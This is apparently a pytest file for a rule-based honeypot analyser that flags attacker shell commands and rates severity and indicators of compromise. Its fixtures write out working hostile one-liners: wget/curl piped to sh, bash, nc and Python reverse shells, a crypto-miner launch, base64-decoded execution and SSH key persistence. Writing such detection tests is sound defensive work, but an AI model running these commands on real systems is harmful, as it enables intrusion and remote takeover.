"""The rule-based analyser alone: deterministic findings, severities and IOCs."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from rbr_analyst.rules import analyse_with_rules, match_command
from rbr_analyst.window_digest import Digest, FlaggedCommand, TopList
from rbr_analyst.windows import Window
from rbr_schemas import Severity

WINDOW = Window.starting("rustbucket-a", datetime(2026, 11, 21, 8, tzinfo=UTC), 14_400)


def digest(**fields: object) -> Digest:
    base = Digest(window=WINDOW, ip_address="192.0.2.10", total_rows=10, distinct_source_ips=2)
    for name, value in fields.items():
        setattr(base, name, value)
    return base


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("cd /tmp; wget http://198.51.100.7/x.sh | sh", "download_and_execute"),
        ("curl -s http://198.51.100.7/i | bash", "download_and_execute"),
        ("wget http://198.51.100.7/bot -O b; chmod +x b; ./b", "download_and_execute"),
        ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "reverse_shell"),
        ("nc -e /bin/sh 203.0.113.5 4444", "reverse_shell"),
        ("./xmrig -o stratum+tcp://pool.example:3333", "crypto_miner"),
        ("echo d2dldCBodHRwOi8vZXZpbC94 | base64 -d | sh", "encoded_execution"),
        ("chmod 777 .x", "made_executable"),
        ("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", "persistence"),
        ("history -c", "anti_forensics"),
        ("uname -a", "reconnaissance"),
    ],
)
def test_known_bad_commands_are_recognised(command: str, rule: str) -> None:
    matched = match_command(command)
    assert matched is not None
    assert matched.key == rule


@pytest.mark.parametrize(
    "command",
    [
        "chmod " + "7" * 15_000 + "x",
        "wget " * 3000,
        "eval " * 3000,
        "nc " * 5000,
        "base64 -d " * 1500,
        "mkfifo " * 2100,
    ],
    ids=lambda c: repr(c[:8]),
)
def test_pathological_commands_finish_without_catastrophic_backtracking(command: str) -> None:
    # No clock but pytest's timeout: these used to cost time quadratic in their length
    # (all under MAX_RULE_CHARS, so the end of each is still looked at).
    assert match_command(command) is None
    assert match_command(command + " | sh; uname -a") is not None


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("chmod 0755 /tmp/.x", "made_executable"),
        ("chmod u+x run", "made_executable"),
        (
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
            "reverse_shell",
        ),
        ("python -c 'import socket;s=socket.socket();s.connect((\"1.2.3.4\",1))'", "reverse_shell"),
    ],
)
def test_rewritten_patterns_still_recognise_their_commands(command: str, rule: str) -> None:
    matched = match_command(command)
    assert matched is not None
    assert matched.key == rule


@pytest.mark.parametrize("command", ["ls -la", "cd /tmp", "echo hello", "chmod 644 notes.txt"])
def test_ordinary_commands_are_not_flagged(command: str) -> None:
    assert match_command(command) is None


def test_quiet_window_is_info_with_no_findings() -> None:
    result = analyse_with_rules(digest())
    assert result.severity == Severity.INFO
    assert result.findings == []
    assert "No attack pattern matched" in result.summary


def test_password_guessing_alone_is_low() -> None:
    result = analyse_with_rules(
        digest(
            login_failures=5000, source_ips=TopList([{"value": "198.51.100.1", "count": 5000}], 1)
        )
    )
    assert result.severity == Severity.LOW
    assert [f.key for f in result.findings] == ["brute_force"]


def test_successful_login_and_download_are_high_with_iocs() -> None:
    result = analyse_with_rules(
        digest(
            login_successes=2,
            successful_logins=TopList(
                [
                    {
                        "source_ip": "198.51.100.1",
                        "username": "root",
                        "password": "admin",
                        "count": 2,
                    }
                ],
                1,
            ),
            download_count=1,
            downloads=TopList(
                [{"url": "http://198.51.100.7/x.sh", "sha256": "ab" * 32, "count": 1}], 1
            ),
        )
    )
    assert result.severity == Severity.HIGH
    assert {f.key for f in result.findings} == {"successful_login", "file_download"}
    iocs = {(i.type.value, i.value) for i in result.iocs}
    assert ("ip", "198.51.100.1") in iocs
    assert ("url", "http://198.51.100.7/x.sh") in iocs
    assert ("sha256", "ab" * 32) in iocs
    assert result.recommended_actions


def test_miner_makes_the_window_critical() -> None:
    command = "./xmrig -o stratum+tcp://pool.example:3333"
    rule = match_command(command)
    assert rule is not None
    result = analyse_with_rules(digest(flagged_commands=[FlaggedCommand(command, 3, rule)]))
    assert result.severity == Severity.CRITICAL
    finding = next(f for f in result.findings if f.key == "crypto_miner")
    assert finding.evidence == [command]
    assert "run 3 time(s)" in finding.description


def test_same_digest_same_analysis() -> None:
    one = digest(login_failures=500, login_successes=1)
    assert analyse_with_rules(one) == analyse_with_rules(one)
